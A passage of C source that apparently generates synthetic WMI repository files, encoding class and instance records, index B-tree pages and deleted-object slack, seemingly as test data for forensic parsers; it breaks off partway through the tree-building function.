static uint32_t predefined(const char *name)
{
    static const struct { const char *n; uint32_t id; } t[] = {
        {"key", 1}, {"read", 3}, {"write", 4}, {"provider", 6}, {"dynamic", 7}, {"CIMTYPE", 10}};
    for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++)
        if (ci_cmp(name, t[i].n) == 0) return t[i].id;
    return 0;
}

static uint32_t qual_type(const cimgen_val *v)
{
    uint32_t t;
    switch (v->kind) {
    case CIMGEN_K_BOOL: t = CIMGEN_BOOLEAN; break;
    case CIMGEN_K_INT: t = CIMGEN_SINT32; break;
    case CIMGEN_K_UINT: t = CIMGEN_UINT32; break;
    case CIMGEN_K_REAL: t = CIMGEN_REAL64; break;
    default: t = CIMGEN_STRING;
    }
    return v->array ? (t | CIMGEN_ARRAY) : t;
}

static size_t quals_size(const qent *q, size_t n)
{
    size_t s = 4;
    for (size_t i = 0; i < n; i++) s += 9 + slot_size(qual_type(&q[i].v));
    return s;
}

/* Writes the list {u32 size, entries} at dst offset `at` (space reserved);
 * names and values that need the heap are appended to it. */
static void enc_quals(buf *heap, buf *dst, size_t at, const qent *q, size_t n)
{
    size_t size = quals_size(q, n);
    le(dst->p + at, size, 4);
    size_t p = at + 4;
    for (size_t i = 0; i < n; i++) {
        uint32_t name = q[i].pre ? (0x80000000u | q[i].pre) : heap_str(heap, q[i].name);
        uint32_t t = qual_type(&q[i].v);
        enc_value(heap, dst, p + 9, t, &q[i].v);
        le(dst->p + p, name, 4);
        dst->p[p + 4] = q[i].flavor;
        le(dst->p + p + 5, t, 4);
        p += 9 + slot_size(t);
    }
}

static qent user_qual(const cimgen_qual *q)
{
    qent e = {q->name, predefined(q->name), q->flavor, q->v};
    return e;
}

/* ------------------------------------------------------------------ */
/* records                                                              */

static int prop_name_cmp(const void *a, const void *b)
{
    const cimgen_prop *x = *(const cimgen_prop *const *)a, *y = *(const cimgen_prop *const *)b;
    return ci_cmp(x->name, y->name);
}

static void state_set(uint8_t *st, size_t i, unsigned bits)
{
    st[i / 4] = (uint8_t)(st[i / 4] | (bits & 3) << (2 * (i % 4)));
}

static uint32_t table_size(const cimgen_class *c)
{
    if (!c->nall) return 0;
    const cimgen_prop *p = c->all[c->nall - 1];
    return p->slot + slot_size(p->type);
}

/* Class definition record (§5.1, checked on artemis object_record.raw). */
static void enc_class(buf *out, const cimgen_class *c)
{
    buf heap = {0}, cq = {0}, da = {0};
    heap_str(&heap, c->name); // the class name is at heap offset 0 (observed)

    qent *qs = xcalloc(c->nquals + 1, sizeof(*qs));
    for (size_t i = 0; i < c->nquals; i++) qs[i] = user_qual(&c->quals[i]);
    b_zero(&cq, quals_size(qs, c->nquals));
    enc_quals(&heap, &cq, 0, qs, c->nquals);
    free(qs);

    // Own properties, sorted by name as Windows lists them (observed).
    cimgen_prop **sorted = xcalloc(c->nown + 1, sizeof(*sorted));
    if (c->nown) memcpy(sorted, c->own, c->nown * sizeof(*sorted));
    qsort(sorted, c->nown, sizeof(*sorted), prop_name_cmp);
    uint32_t *pl = xcalloc(2 * c->nown + 1, sizeof(*pl));
    for (size_t i = 0; i < c->nown; i++) {
        const cimgen_prop *p = sorted[i];
        pl[2 * i] = heap_str(&heap, p->name);
        size_t nq = 0;
        qent *pq = xcalloc(p->nquals + 2, sizeof(*pq));
        char tt[300];
        pq[nq++] = (qent){"CIMTYPE", 10, 3, cimgen_str(type_text(p->type, p->refclass, tt, sizeof(tt)))};
        if (p->key) pq[nq++] = (qent){"key", 1, 0x13, cimgen_bool(true)};
        for (size_t j = 0; j < p->nquals; j++)
            if (ci_cmp(p->quals[j].name, "key") && ci_cmp(p->quals[j].name, "CIMTYPE")) {
                pq = realloc(pq, (nq + 1) * sizeof(*pq));
                if (!pq) oom();
                pq[nq++] = user_qual(&p->quals[j]);
            }
        // Property definition: type, index, slot, level, qualifiers.
        size_t def = heap.n;
        pl[2 * i + 1] = (uint32_t)def;
        b_zero(&heap, 14 + quals_size(pq, nq));
        le(heap.p + def, p->type, 4);
        le(heap.p + def + 4, p->index, 2);
        le(heap.p + def + 6, p->slot, 4);
        le(heap.p + def + 10, p->level, 4);
        enc_quals(&heap, &heap, def + 14, pq, nq);
        free(pq);
    }

    // Default values area: state bits for the whole derivation (low bit =
    // no default, high bit = inherited), then every slot; no default = 0xFF.
    size_t nst = (2 * c->nall + 7) / 8;
    uint32_t tsz = table_size(c);
    b_zero(&da, nst + tsz);
    memset(da.p + nst, 0xFF, tsz);
    for (size_t i = 0; i < c->nall; i++) {
        const cimgen_prop *p = c->all[i];
        unsigned bits = (p->origin != c ? 2u : 0u) | (p->has_default ? 0u : 1u);
        state_set(da.p, i, bits);
        if (p->has_default) enc_value(&heap, &da, nst + p->slot, p->type, &p->dflt);
    }

    const char *super = c->super ? c->super->name : "";
    b_u32(out, (uint32_t)to_utf16(super, NULL));
    b_utf16(out, super);
    b_u64(out, c->defined);
    size_t size_at = out->n;
    b_u32(out, 0);
    b_u8(out, 0);
    b_u32(out, 0); // heap offset of the class name
    b_u32(out, (uint32_t)da.n);
    if (c->super) {
        // Super-class block: size, heap-style name, its byte length (observed).
        buf sn = {0};
        heap_str(&sn, super);
        b_u32(out, (uint32_t)(4 + sn.n + 4));
        b_bytes(out, sn.p, sn.n);
        b_u32(out, (uint32_t)sn.n);
        b_free(&sn);
    } else {
        b_u32(out, 4);
    }
    b_bytes(out, cq.p, cq.n);
    b_u32(out, (uint32_t)c->nown);
    for (size_t i = 0; i < 2 * c->nown; i++) b_u32(out, pl[i]);
    b_bytes(out, da.p, da.n);
    b_u32(out, (uint32_t)heap.n | 0x80000000u);
    b_bytes(out, heap.p, heap.n);
    le(out->p + size_at, out->n - size_at, 4);
    // Methods block: none (observed 0C 00 00 00 + empty heap).
    static const uint8_t methods[12] = {0x0C, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x80};
    b_bytes(out, methods, sizeof(methods));
    free(sorted);
    free(pl);
    b_free(&heap);
    b_free(&cq);
    b_free(&da);
}

static const cimgen_val *inst_value(const cimgen_inst *in, const cimgen_prop *p)
{
    for (size_t i = 0; i < in->nset; i++)
        if (ci_cmp(in->set[i].prop, p->name) == 0) return &in->set[i].v;
    return NULL;
}

/* Instance record (§5.2, checked on artemis instance.raw and the SCM
 * objects of fox-it_dissect.cim). */
static void enc_inst(buf *out, const cimgen_inst *in, bool xp)
{
    const cimgen_class *c = in->cls;
    char hash[65];
    cimgen_hash_name(c->name, xp, hash);
    b_utf16(out, hash);
    b_u64(out, in->ts_written);
    b_u64(out, c->defined); // ts2 = definition time of the class (§6)
    size_t size_at = out->n;
    b_u32(out, 0);
    b_u32(out, 0); // heap offset of the class name
    b_u8(out, 0);
    buf heap = {0}, vt = {0};
    heap_str(&heap, c->name);
    size_t nst = (2 * c->nall + 7) / 8;
    b_zero(&vt, nst + table_size(c));
    for (size_t i = 0; i < c->nall; i++) {
        const cimgen_prop *p = c->all[i];
        const cimgen_val *v = inst_value(in, p);
        unsigned bits;
        if (!v || v->kind == CIMGEN_K_UNSET)
            bits = p->has_default ? 2u : 3u; // class default; none = NULL too (observed 11)
        else if (v->kind == CIMGEN_K_NULL)
            bits = 1u;
        else {
            bits = 0u;
            enc_value(&heap, &vt, nst + p->slot, p->type, v);
        }
        state_set(vt.p, i, bits);
    }
    b_bytes(out, vt.p, vt.n);
    b_u32(out, 4); // no instance qualifiers
    b_u8(out, 1);  // no dynamic properties
    b_u32(out, (uint32_t)heap.n | 0x80000000u);
    b_bytes(out, heap.p, heap.n);
    le(out->p + size_at, out->n - size_at, 4);
    b_free(&heap);
    b_free(&vt);
}

/* Namespace path as Windows writes it in reference records ("ROOT\x"). */
static void ns_display(const char *path, char *out, size_t n)
{
    if (ci_cmp(path, "root") == 0 || strncmp(path, "root\\", 5) == 0 || strncmp(path, "ROOT\\", 5) == 0)
        snprintf(out, n, "ROOT%s", path + 4);
    else
        snprintf(out, n, "%s", path);
}

/* Record behind a KI_/IR_/R_ key (observed): namespace, class and property
 * of the referring instance, then the key path of that instance. */
static void enc_refobj(buf *out, const cimgen_inst *in, const char *prop, const char *path)
{
    char ns[600];
    ns_display(in->ns->path, ns, sizeof(ns));
    b_lenstr16(out, ns);
    b_lenstr16(out, in->cls->name);
    b_lenstr16(out, prop);
    b_lenstr16(out, path);
    b_zero(out, 8);
}

/* ------------------------------------------------------------------ */
/* instance keys                                                        */

static int key_name_cmp(const void *a, const void *b)
{
    return ci_cmp(**(const char *const *const *)a, **(const char *const *const *)b);
}

/* Text of one key value, as hashed. */
static void key_value_text(buf *t, const cimgen_prop *p, const cimgen_val *v)
{
    char num[64];
    if (!v || v->kind == CIMGEN_K_NULL || v->kind == CIMGEN_K_UNSET) return;
    if (v->kind == CIMGEN_K_STR) {
        b_bytes(t, v->s, strlen(v->s));
        return;
    }
    if (v->kind == CIMGEN_K_BOOL)
        snprintf(num, sizeof(num), "%s", v->b ? "TRUE" : "FALSE");
    else if (v->kind == CIMGEN_K_UINT || (p->type & CIMGEN_TYPE_MASK) == CIMGEN_UINT64)
        snprintf(num, sizeof(num), "%llu", (unsigned long long)val_u64(v, 0));
    else
        snprintf(num, sizeof(num), "%lld", (long long)val_u64(v, 0));
    b_bytes(t, num, strlen(num));
}

const char *cimgen_instance_keytext(cimgen_model *m, const cimgen_inst *in)
{
    const cimgen_class *c = in->cls;
    const cimgen_prop **keys = xcalloc(c->nall + 1, sizeof(*keys));
    size_t nk = 0;
    for (size_t i = 0; i < c->nall; i++)
        if (c->all[i]->key) keys[nk++] = c->all[i];
    // Several keys: values in key-name order joined by U+FFFF (§3).
    const char **names = xcalloc(nk + 1, sizeof(*names));
    const char ***byname = xcalloc(nk + 1, sizeof(*byname));
    for (size_t i = 0; i < nk; i++) {
        names[i] = keys[i]->name;
        byname[i] = &names[i];
    }
    qsort(byname, nk, sizeof(*byname), key_name_cmp);
    buf t = {0};
    if (!nk) b_bytes(&t, "@", 1); // singleton (observed: hash of "@")
    for (size_t i = 0; i < nk; i++) {
        const cimgen_prop *p = keys[byname[i] - names];
        if (i) b_bytes(&t, "\xEF\xBF\xBF", 3);
        const cimgen_val *v = inst_value(in, p);
        if (!v || v->kind == CIMGEN_K_UNSET) v = p->has_default ? &p->dflt : NULL;
        key_value_text(&t, p, v);
    }
    b_u8(&t, 0);
    char *r = astrdup(m, (const char *)t.p);
    b_free(&t);
    free(keys);
    free(names);
    free(byname);
    return r;
}

/* A parsed object path: [\\host\ns:]Class.k="v",k2=v2 or Class=@. */
typedef struct objpath {
    char ns[512];
    char cls[256];
    size_t nkeys;
    char kname[8][128];
    char kval[8][1024];
} objpath;

static bool parse_path(const char *s, const char *defns, objpath *o)
{
    memset(o, 0, sizeof(*o));
    snprintf(o->ns, sizeof(o->ns), "%s", defns);
    const char *colon = NULL;
    for (const char *p = s; *p && *p != '"' && *p != '='; p++)
        if (*p == ':') colon = p;
    if (colon) {
        const char *ns = s;
        if (ns[0] == '\\' && ns[1] == '\\') {
            ns = strchr(ns + 2, '\\');
            if (!ns || ns > colon) return false;
            ns++;
        }
        snprintf(o->ns, sizeof(o->ns), "%.*s", (int)(colon - ns), ns);
        s = colon + 1;
    }
    size_t cl = strcspn(s, ".=");
    if (!cl || cl >= sizeof(o->cls)) return false;
    memcpy(o->cls, s, cl);
    s += cl;
    if (*s == '=') return strcmp(s, "=@") == 0;
    if (*s++ != '.') return false;
    while (*s && o->nkeys < 8) {
        size_t nl = strcspn(s, "=");
        if (!s[nl] || nl >= sizeof(o->kname[0])) return false;
        memcpy(o->kname[o->nkeys], s, nl);
        s += nl + 1;
        char *v = o->kval[o->nkeys];
        size_t vl = 0;
        if (*s == '"') {
            for (s++; *s && *s != '"'; s++) {
                if (*s == '\\' && s[1]) s++;
                if (vl + 1 < sizeof(o->kval[0])) v[vl++] = *s;
            }
            if (*s != '"') return false;
            s++;
        } else {
            while (*s && *s != ',')
                if (vl + 1 < sizeof(o->kval[0])) v[vl++] = *s++;
        }
        v[vl] = 0;
        o->nkeys++;
        if (*s == ',') s++;
        else if (*s) return false;
    }
    return true;
}

/* Hash text of the instance a path names: values in key-name order. */
static void path_keytext(const objpath *o, buf *t)
{
    size_t order[8];
    for (size_t i = 0; i < o->nkeys; i++) order[i] = i;
    for (size_t i = 1; i < o->nkeys; i++)
        for (size_t j = i; j > 0 && ci_cmp(o->kname[order[j - 1]], o->kname[order[j]]) > 0; j--) {
            size_t x = order[j];
            order[j] = order[j - 1];
            order[j - 1] = x;
        }
    if (!o->nkeys) b_bytes(t, "@", 1);
    for (size_t i = 0; i < o->nkeys; i++) {
        if (i) b_bytes(t, "\xEF\xBF\xBF", 3);
        b_bytes(t, o->kval[order[i]], strlen(o->kval[order[i]]));
    }
    b_u8(t, 0);
}

/* ------------------------------------------------------------------ */
/* random numbers (reproducible per seed)                               */

static uint64_t rnd(uint64_t *s)
{
    // xorshift64*
    uint64_t x = *s ? *s : 0x9E3779B97F4A7C15ull;
    x ^= x >> 12;
    x ^= x << 25;
    x ^= x >> 27;
    *s = x;
    return x * 0x2545F4914F6CDD1Dull;
}

/* ------------------------------------------------------------------ */
/* page sink: logical pages to physical pages of one file               */

/* Pages are gathered in blocks; each block is written to consecutive
 * physical pages in shuffled order, with an occasional extra page (free,
 * or a page holding deleted objects) mixed in. This keeps the file mostly
 * sequential, as real repositories are, while no physical number equals
 * its logical one by accident. */
#define BLK 16

typedef struct extra {
    uint8_t *page;       /* NULL: a zero page */
    uint32_t *phys_out;  /* where to report its physical number */
} extra;

typedef struct psink {
    int fd;
    uint64_t *rng;
    bool shuffle;
    uint8_t *blk;
    uint32_t blk_log[BLK];
    unsigned nblk;
    uint32_t nphys;
    uint32_t *l2p;       /* logical -> physical, NONE32 = none */
    size_t l2pcap;
    uint32_t nlog;       /* logical entries (max logical + 1) */
    extra *extras;
    size_t nextras, ecap, enext;
    unsigned blocks;
    int err;
} psink;

static void sink_init(psink *s, int fd, uint64_t *rng, bool shuffle)
{
    memset(s, 0, sizeof(*s));
    s->fd = fd;
    s->rng = rng;
    s->shuffle = shuffle;
    s->blk = xmalloc((size_t)(BLK + 2) * PAGE);
}

static void sink_extra(psink *s, uint8_t *page, uint32_t *phys_out)
{
    grow(&s->extras, &s->ecap, s->nextras + 1, sizeof(*s->extras));
    s->extras[s->nextras++] = (extra){page, phys_out};
}

static void sink_write(psink *s, const uint8_t *p, size_t n, uint32_t phys)
{
    off_t off = (off_t)phys * PAGE;
    while (n && !s->err) {
        ssize_t w = pwrite(s->fd, p, n, off);
        if (w < 0) {
            if (errno == EINTR) continue;
            s->err = errno;
            return;
        }
        p += w;
        n -= (size_t)w;
        off += w;
    }
}

static void map_set(psink *s, uint32_t logical, uint32_t phys)
{
    if (logical >= s->l2pcap) {
        size_t old = s->l2pcap;
        grow(&s->l2p, &s->l2pcap, (size_t)logical + 1, sizeof(*s->l2p));
        for (size_t i = old; i < s->l2pcap; i++) s->l2p[i] = NONE32;
    }
    s->l2p[logical] = phys;
    if (logical + 1 > s->nlog) s->nlog = logical + 1;
}

static void sink_flush(psink *s, bool final)
{
    // Slots: the block's pages, then maybe one extra page.
    unsigned n = s->nblk;
    int slot_src[BLK + 2]; // >= 0: block page; -1 - k: extra k
    for (unsigned i = 0; i < n; i++) slot_src[i] = (int)i;
    if (s->shuffle && s->enext < s->nextras && n) {
        slot_src[n] = -1 - (int)s->enext++;
        n++;
    } else if (s->shuffle && n && s->blocks % 5 == 2 && !final) {
        slot_src[n] = -1000000; // a free zero page
        n++;
    }
    if (s->shuffle)
        for (unsigned i = n; i > 1; i--) {
            unsigned j = (unsigned)(rnd(s->rng) % i);
            int t = slot_src[i - 1];
            slot_src[i - 1] = slot_src[j];
            slot_src[j] = t;
        }
    uint8_t *out = xmalloc((size_t)n * PAGE);
    for (unsigned i = 0; i < n; i++) {
        uint8_t *dst = out + (size_t)i * PAGE;
        int src = slot_src[i];
        if (src >= 0) {
            memcpy(dst, s->blk + (size_t)src * PAGE, PAGE);
            map_set(s, s->blk_log[src], s->nphys + i);
        } else if (src == -1000000) {
            memset(dst, 0, PAGE);
        } else {
            extra *e = &s->extras[-1 - src];
            if (e->page)
                memcpy(dst, e->page, PAGE);
            else
                memset(dst, 0, PAGE);
            if (e->phys_out) *e->phys_out = s->nphys + i;
        }
    }
    sink_write(s, out, (size_t)n * PAGE, s->nphys);
    s->nphys += n;
    s->nblk = 0;
    s->blocks++;
    free(out);
}

static void sink_put(psink *s, uint32_t logical, const uint8_t *page)
{
    memcpy(s->blk + (size_t)s->nblk * PAGE, page, PAGE);
    s->blk_log[s->nblk++] = logical;
    if (s->nblk == BLK) sink_flush(s, false);
}

/* Writes what is left, then the extras not yet placed, then free pages
 * until the file has some room beyond the mapped pages (real files do:
 * fox-it_dissect.cim has 196 free data pages for 2,853 entries). */
static void sink_close(psink *s, uint32_t unmapped)
{
    if (s->nblk) sink_flush(s, true);
    uint32_t mapped = 0;
    for (uint32_t i = 0; i < s->nlog; i++) mapped += s->l2p[i] != NONE32;
    uint32_t want = mapped + unmapped + (s->shuffle ? 3 + s->nlog / 20 : 0);
    while (s->nextras - s->enext + s->nphys < want) sink_extra(s, NULL, NULL);
    for (; s->enext < s->nextras; s->enext++) {
        extra *e = &s->extras[s->enext];
        uint8_t zero[PAGE];
        memset(zero, 0, sizeof(zero));
        sink_write(s, e->page ? e->page : zero, PAGE, s->nphys);
        if (e->phys_out) *e->phys_out = s->nphys;
        s->nphys++;
    }
}

static void sink_free(psink *s)
{
    free(s->blk);
    free(s->l2p);
    for (size_t i = 0; i < s->nextras; i++) free(s->extras[i].page);
    free(s->extras);
}

/* ------------------------------------------------------------------ */
/* OBJECTS.DATA                                                         */

typedef struct keyset {
    char **k;
    size_t n, cap;
    size_t with_data;
} keyset;

static void key_add(keyset *ks, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void key_add(keyset *ks, const char *fmt, ...)
{
    char tmp[1200];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(tmp, sizeof(tmp), fmt, ap);
    va_end(ap);
    if (n < 0 || (size_t)n >= sizeof(tmp)) return;
    grow(&ks->k, &ks->cap, ks->n + 1, sizeof(*ks->k));
    char *s = xmalloc((size_t)n + 1);
    memcpy(s, tmp, (size_t)n + 1);
    ks->k[ks->n++] = s;
}

#define PENDING_OFF (1ull << 62)

typedef struct tocent {
    uint32_t rid, size, at; /* at: offset in the staged data */
    bool hidden;            /* slack: bytes kept, no TOC entry */
} tocent;

typedef struct pending {
    uint8_t *rec;
    size_t n;
    const void *obj;
    bool is_class;
    bool stale;      /* a copy of a live instance */
} pending;

typedef struct dwriter {
    psink sink;
    uint64_t *rng;
    uint32_t next_logical;
    uint32_t nold;           /* logical pages reserved for OLDMAP pages */
    uint32_t old_base;       /* first of them */
    bool hole_done;
    bool open;
    uint32_t logical;
    tocent ent[600];
    size_t nent;
    uint8_t data[PAGE];
    size_t dlen;
    uint32_t *freeb;         /* free bytes per logical page */
    size_t freecap;
    pending *slack;          /* slack objects waiting for a page */
    size_t nslack, slackcap, slacknext;
    cimgen_report *rep;
    size_t spanning;
    uint64_t bytes;
} dwriter;

static void set_free(dwriter *w, uint32_t logical, uint32_t fb)
{
    if (logical >= w->freecap) {
        size_t old = w->freecap;
        grow(&w->freeb, &w->freecap, (size_t)logical + 1, sizeof(*w->freeb));
        memset(w->freeb + old, 0, (w->freecap - old) * sizeof(*w->freeb));
    }
    w->freeb[logical] = fb;
}

static uint32_t new_rid(dwriter *w)
{
    for (;;) {
        uint32_t r = (uint32_t)(rnd(w->rng) >> 32);
        if (!r) continue;
        bool dup = false;
        for (size_t i = 0; i < w->nent; i++)
            if (w->ent[i].rid == r) dup = true;
        if (!dup) return r;
    }
}

static size_t toc_bytes(const dwriter *w, size_t extra_entries)
{
    return 16 * (w->nent + extra_entries + 1); // hidden entries keep their room
}

/* Assembles a page: TOC {record id, offset, size, checksum 0} ended by a
 * zero entry (§4), then the objects. */
static void page_build(const tocent *ent, size_t nent, const uint8_t *data, size_t dlen, uint8_t *page,
                       uint32_t *freeb)
{
    memset(page, 0, PAGE);
    size_t base = 16 * (nent + 1);
    size_t k = 0, used = 0;
    for (size_t i = 0; i < nent; i++) {
        if (!ent[i].hidden) {
            le(page + 16 * k, ent[i].rid, 4);
            le(page + 16 * k + 4, base + ent[i].at, 4);
            le(page + 16 * k + 8, ent[i].size, 4);
            k++;
            used += ent[i].size;
        }
    }
    memcpy(page + base, data, dlen);
    if (freeb) *freeb = (uint32_t)(PAGE - 16 * (k + 1) - used);
}

static void dw_close_page(dwriter *w)
{
    if (!w->open) return;
    uint8_t page[PAGE];
    uint32_t fb;
    page_build(w->ent, w->nent, w->data, w->dlen, page, &fb);
    for (size_t i = 0; w->rep && i < w->rep->nplaced; i++) {
        cimgen_placed *pl = &w->rep->placed[i];
        if (pl->how == CIMGEN_DEL_SLACK && pl->logical_page == w->logical && (pl->offset & PENDING_OFF))
            pl->offset = 16 * (w->nent + 1) + (pl->offset & ~PENDING_OFF);
    }
    set_free(w, w->logical, fb);
    sink_put(&w->sink, w->logical, page);
    w->open = false;
}

/* count consecutive logical pages. The OLDMAP pages get a hole of their
 * own just after logical page 0, unmapped in the current map. */
static uint32_t alloc_logical(dwriter *w, uint32_t count)
{
    if (!w->hole_done && w->nold && w->next_logical >= 1) {
        w->old_base = w->next_logical;
        w->next_logical += w->nold;
        w->hole_done = true;
    }
    uint32_t r = w->next_logical;
    w->next_logical += count;
    return r;
}

static void dw_open_page(dwriter *w)
{
    w->logical = alloc_logical(w, 1);
    w->nent = 0;
    w->dlen = 0;
    w->open = true;
}

typedef struct dloc {
    uint32_t page, rid, size;
} dloc;

static void place_slack(dwriter *w);

/* Places one live record; returns its location for the key. */
static dloc dw_put(dwriter *w, const uint8_t *rec, size_t n)
{
    dloc loc = {0, 0, (uint32_t)n};
    w->bytes += n;
    if (n + 32 > PAGE) {
        // Too big for a page: alone on a new page with a one-entry TOC, then
        // on the following logical pages (§2, observed on page 1175 of
        // fox-it_dissect.cim).
        dw_close_page(w);
        size_t first = PAGE - 32;
        uint32_t npages = 1 + (uint32_t)((n - first + PAGE - 1) / PAGE);
        w->logical = alloc_logical(w, npages);
        w->nent = 0;
        w->dlen = 0;
        uint32_t rid = new_rid(w);
        uint8_t page[PAGE];
        memset(page, 0, PAGE);
        le(page, rid, 4);
        le(page + 4, 32, 4);
        le(page + 8, n, 4);
        memcpy(page + 32, rec, first);
        set_free(w, w->logical, 0);
        sink_put(&w->sink, w->logical, page);
        loc.page = w->logical;
        loc.rid = rid;
        for (size_t done = first; done < n; done += PAGE) {
            size_t k = n - done < PAGE ? n - done : PAGE;
            memset(page, 0, PAGE);
            memcpy(page, rec + done, k);
            uint32_t l = w->logical + 1 + (uint32_t)((done - first) / PAGE);
            set_free(w, l, 0);
            sink_put(&w->sink, l, page);
        }
        w->open = false;
        w->spanning++;
        return loc;
    }
    if (!w->open || toc_bytes(w, 1) + w->dlen + n > PAGE) {
        dw_close_page(w);
        dw_open_page(w);
    }
    uint32_t rid = new_rid(w);
    w->ent[w->nent++] = (tocent){rid, (uint32_t)n, (uint32_t)w->dlen, false};
    memcpy(w->data + w->dlen, rec, n);
    w->dlen += n;
    loc.page = w->logical;
    loc.rid = rid;
    if (w->nent >= sizeof(w->ent) / sizeof(w->ent[0]) - 2) dw_close_page(w);
    place_slack(w);
    return loc;
}

/* A waiting slack object goes right after a live one, when it fits. */
static void place_slack(dwriter *w)
{
    if (w->slacknext >= w->nslack || !w->open) return;
    pending *p = &w->slack[w->slacknext];
    if (toc_bytes(w, 1) + w->dlen + p->n > PAGE) return;
    uint32_t rid = new_rid(w);
    w->ent[w->nent++] = (tocent){rid, (uint32_t)p->n, (uint32_t)w->dlen, true};
    memcpy(w->data + w->dlen, p->rec, p->n);
    if (w->rep && w->rep->nplaced < 64) {
        cimgen_placed *pl = &w->rep->placed[w->rep->nplaced++];
        // In-page offset is known when the page closes (TOC size).
        *pl = (cimgen_placed){p->obj, p->is_class, CIMGEN_DEL_SLACK, w->logical, 0, rid, (uint32_t)p->n,
                              PENDING_OFF | w->dlen, 1, p->stale};
    }
    w->dlen += p->n;
    w->slacknext++;
}

/* A page of deleted objects (old-map and unallocated pages). */
static uint8_t *dead_page(dwriter *w, const pending *objs, size_t n, cimgen_del how, uint32_t logical)
{
    tocent ent[64];
    uint8_t data[PAGE];
    size_t dlen = 0, k = 0, first = w->rep ? w->rep->nplaced : 0;
    for (size_t i = 0; i < n && k < 64; i++) {
        if (16 * (k + 2) + dlen + objs[i].n > PAGE) break;
        ent[k] = (tocent){(uint32_t)(rnd(w->rng) >> 32) | 1u, (uint32_t)objs[i].n, (uint32_t)dlen, false};
        memcpy(data + dlen, objs[i].rec, objs[i].n);
        if (w->rep && w->rep->nplaced < 64)
            w->rep->placed[w->rep->nplaced++] = (cimgen_placed){
                objs[i].obj, objs[i].is_class, how, logical, 0, ent[k].rid, (uint32_t)objs[i].n, dlen, 1,
                objs[i].stale};
        dlen += objs[i].n;
        k++;
    }
    for (size_t i = first; w->rep && i < w->rep->nplaced; i++) w->rep->placed[i].offset += 16 * (k + 1);
    uint8_t *page = xmalloc(PAGE);
    page_build(ent, k, data, dlen, page, NULL);
    return page;
}

/* ------------------------------------------------------------------ */
/* INDEX.BTR (§3)                                                       */

typedef struct seg {
    const char *s;
    size_t n;
} seg;

static size_t split_key(const char *k, seg *out, size_t max)
{
    size_t n = 0;
    while (n < max) {
        size_t l = strcspn(k, "/");
        out[n++] = (seg){k, l};
        if (!k[l]) break;
        k += l + 1;
    }
    return n;
}

#define SEGTAB 2048

typedef struct segset {
    seg s[SEGTAB / 2];
    size_t n;
    int16_t tab[SEGTAB];
} segset;

static uint32_t seg_hash(const seg *g)
{
    uint32_t h = 2166136261u;
    for (size_t i = 0; i < g->n; i++) h = (h ^ (uint8_t)g->s[i]) * 16777619u;
    return h;
}

static void segset_reset(segset *ss)
{
    ss->n = 0;
    memset(ss->tab, 0xFF, sizeof(ss->tab));
}

/* Index of g in the set; -1 when absent (and then added when add). */
static int segset_find(segset *ss, const seg *g, bool add)
{
    uint32_t h = seg_hash(g) & (SEGTAB - 1);
    while (ss->tab[h] >= 0) {
        const seg *x = &ss->s[ss->tab[h]];
        if (x->n == g->n && memcmp(x->s, g->s, g->n) == 0) return ss->tab[h];
        h = (h + 1) & (SEGTAB - 1);
    }
    if (add) {
        ss->tab[h] = (int16_t)ss->n;
        ss->s[ss->n++] = *g;
    }
    return -1;
}

/* Bytes a page grows by when key k is added (segments new to the page). */
static size_t key_cost(segset *ss, const char *k, bool add)
{
    seg g[16];
    size_t ns = split_key(k, g, 16);
    size_t c = 4 + 4 + 2 + 2 * (1 + ns); // zero dword, child, key index, key definition
    for (size_t i = 0; i < ns; i++)
        if (segset_find(ss, &g[i], add) < 0) {
            bool dup = false; // the same segment twice in one key
            for (size_t j = 0; j < i && !add; j++)
                if (g[j].n == g[i].n && memcmp(g[j].s, g[i].s, g[i].n) == 0) dup = true;
            if (!dup) c += 2 + g[i].n + 1;
        }
    return c;
}

#define PAGE_BASE (16 + 4 + 4 + 2 + 2 + 2) /* header, N, one child, S, M, last offset */

/* Page: header {0xACCC, logical, 0, 0}; N; N zero dwords; N+1 children;
 * N key-definition indexes; S and S words (count, string indexes); M and
 * M+1 string offsets (the last = area length); the NUL-ended strings. */
static void encode_node(char *const *keys, size_t n, const uint32_t *kids, uint32_t logical, uint8_t *page)
{
    static segset ss;
    segset_reset(&ss);
    memset(page, 0, PAGE);
    le(page, 0xACCC, 4);
    le(page + 4, logical, 4);
    size_t p = 16;
    le(page + p, n, 4);
    p += 4 + 4 * n;
    for (size_t i = 0; i <= n; i++, p += 4) le(page + p, kids ? kids[i] : NONE32, 4);
    size_t kidx = p;
    p += 2 * n;
    // Key definitions.
    uint16_t words[PAGE / 2];
    size_t nw = 0;
    for (size_t i = 0; i < n; i++) {
        seg g[16];
        size_t ns = split_key(keys[i], g, 16);
        le(page + kidx + 2 * i, nw, 2);
        words[nw++] = (uint16_t)ns;
        for (size_t j = 0; j < ns; j++) {
            int x = segset_find(&ss, &g[j], true);
            words[nw++] = (uint16_t)(x < 0 ? (int)ss.n - 1 : x);
        }
    }
    le(page + p, nw, 2);
    p += 2;
    for (size_t i = 0; i < nw; i++, p += 2) le(page + p, words[i], 2);
    le(page + p, ss.n, 2);
    p += 2;
    size_t offs = p, area = p + 2 * (ss.n + 1), o = 0;
    for (size_t i = 0; i < ss.n; i++) {
        le(page + offs + 2 * i, o, 2);
        memcpy(page + area + o, ss.s[i].s, ss.s[i].n);
        o += ss.s[i].n + 1;
    }
    le(page + offs + 2 * ss.n, o, 2);
}

typedef struct btree {
    psink *sink;
    uint32_t next_logical;
    bool root_at_zero;
    uint32_t pages;
    uint32_t depth;
} btree;

/* Builds the tree bottom-up: greedy pages per level, the key after each
 * full page going up as separator (child i holds keys between key i-1 and
 * key i). Returns the root's logical page. */
static uint32_t build_tree(btree *bt, char **keys, size_t n)
{
    char **lk = keys;
    uint32_t *lc = NULL; // children of this level's keys (NULL for leaves)
    size_t ln = n;
    static segset ss;
    uint8_t page[PAGE];
    for (;;) {
        char **up = xcalloc(ln + 1, sizeof(*up));
        uint32_t *upc = xcalloc(ln + 2, sizeof(*upc));
        size_t nup = 0, nnodes = 0;
        size_t i = 0;
        bool single = false;
        for (;;) {
            size_t a = i, bytes = PAGE_BASE;
            segset_reset(&ss);
            while (i < ln && ss.n + 20 < SEGTAB / 2) {
                size_t c = key_cost(&ss, lk[i], false);
                if (bytes + c > PAGE) break;
                bytes += key_cost(&ss, lk[i], true);
                i++;
            }
            if (i == a && i < ln) {
